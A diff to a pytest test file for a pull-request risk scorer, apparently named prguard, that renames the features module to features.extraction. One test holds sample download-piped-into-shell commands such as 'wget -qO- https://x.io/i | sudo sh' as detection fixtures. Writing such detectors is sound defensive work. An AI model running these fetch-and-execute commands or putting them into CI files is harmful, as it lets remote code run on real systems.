@@ -3,8 +3,8 @@ from __future__ import annotations
 
 import pytest
 
-from prguard import features, paths
-from prguard.features import FEATURE_NAMES, build_profile, extract, profile_stats
+from prguard.features import extraction, paths
+from prguard.features.extraction import FEATURE_NAMES, build_profile, extract, profile_stats
 
 
 def with_files(*files: dict, **overrides) -> dict:
@@ -53,14 +53,14 @@ def test_each_sensitive_path_rule(path, feature, reason):
     doc = with_files(changed(path), changed("src/app.py"))
     assert values(doc)[feature] == 1.0
     assert values(with_files(changed("src/app.py")))[feature] == 0.0
-    assert dict(features.sensitive_files(doc))[path].count(reason) == 1
-    assert path in features.explain(feature, doc, None)
+    assert dict(extraction.sensitive_files(doc))[path].count(reason) == 1
+    assert path in extraction.explain(feature, doc, None)
 
 
 def test_ordinary_files_are_not_sensitive():
     doc = with_files(changed("src/app.py"), changed("README.md"), changed("docs/img/logo.png", 0, 0, patch=None),
                      changed("tests/test_app.py"), changed("config/dependabot.yml"))
-    assert features.sensitive_files(doc) == []
+    assert extraction.sensitive_files(doc) == []
     assert all(values(doc)[name] == 0.0 for name in ("touches_ci", "touches_build", "touches_manifest",
                                                      "touches_policy", "log_binary_files", "sensitive_rarity"))
 
@@ -72,8 +72,8 @@ def test_lockfile_without_its_manifest():
     assert values(lock_only)["lockfile_without_manifest"] == 1.0
     assert values(with_manifest)["lockfile_without_manifest"] == 0.0
     assert values(other_dir)["lockfile_without_manifest"] == 1.0  # a manifest elsewhere does not count
-    assert ("package-lock.json", "lockfile changed without its manifest") in features.sensitive_files(lock_only)
-    assert features.explain("lockfile_without_manifest", lock_only, None) == \
+    assert ("package-lock.json", "lockfile changed without its manifest") in extraction.sensitive_files(lock_only)
+    assert extraction.explain("lockfile_without_manifest", lock_only, None) == \
         "changes a lockfile without its manifest (package-lock.json)"
     assert paths.orphan_lockfiles(["go.sum", "go.mod"]) == []
     assert paths.orphan_lockfiles(["svc/Cargo.lock"]) == ["svc/Cargo.lock"]
@@ -86,7 +86,7 @@ def test_binary_files_by_extension_and_by_githubs_missing_patch():
     huge_text = with_files(changed("data/big.csv", 9000, 0, status="added", patch=None))  # diff too large
     assert values(blob)["log_binary_files"] > 0 and values(unknown_ext)["log_binary_files"] > 0
     assert values(image)["log_binary_files"] == 0.0 and values(huge_text)["log_binary_files"] == 0.0
-    assert features.explain("log_binary_files", blob, None) == "adds or changes 1 binary file (tests/files/bad-3.xz)"
+    assert extraction.explain("log_binary_files", blob, None) == "adds or changes 1 binary file (tests/files/bad-3.xz)"
 
 
 def test_download_piped_into_a_shell():
@@ -94,7 +94,7 @@ def test_download_piped_into_a_shell():
     doc = with_files(changed(".github/workflows/ci.yml", 1, 0, patch=patch))
     removed = with_files(changed(".github/workflows/ci.yml", 0, 1, patch="@@ -1 +0,0 @@\n-curl x | sh"))
     assert values(doc)["pipes_to_shell"] == 1.0 and values(removed)["pipes_to_shell"] == 0.0
-    reasons = dict(features.sensitive_files(doc))[".github/workflows/ci.yml"]
+    reasons = dict(extraction.sensitive_files(doc))[".github/workflows/ci.yml"]
     assert "CI workflow" in reasons and "pipes a download into a shell" in reasons
     for line in ("wget -qO- https://x.io/i | sudo sh", "bash <(curl -s https://x.io/i)",
                  "echo aGk= | base64 -d | sh"):
@@ -110,15 +110,15 @@ def test_sensitive_rarity_depends_on_how_often_this_repository_does_it():
     rare_here = dict(zip(FEATURE_NAMES, extract(ci_change, ci_rare)))["sensitive_rarity"]
     routine_here = dict(zip(FEATURE_NAMES, extract(ci_change, ci_heavy)))["sensitive_rarity"]
     assert routine_here < 0.15 < 0.5 < rare_here
-    assert "under 1% of PRs here" in features.explain("sensitive_rarity", ci_change, ci_rare)
+    assert "under 1% of PRs here" in extraction.explain("sensitive_rarity", ci_change, ci_rare)
 
 
 def test_facts_list_the_sensitive_files():
     doc = with_files(changed(".github/workflows/ci.yml"), changed("yarn.lock"), changed("CODEOWNERS"))
-    facts = features.facts(doc)
+    facts = extraction.facts(doc)
     assert facts["ci_files"] == [".github/workflows/ci.yml"]
     assert facts["lockfiles_without_manifest"] == ["yarn.lock"] and facts["policy_files"] == ["CODEOWNERS"]
     assert facts["files_known"] is True and facts["directories"] == 2
     no_files = dict(doc)
     del no_files["files"]
-    assert features.facts(no_files)["ci_files"] is None and features.sensitive_files(no_files) == []
+    assert extraction.facts(no_files)["ci_files"] is None and extraction.sensitive_files(no_files) == []
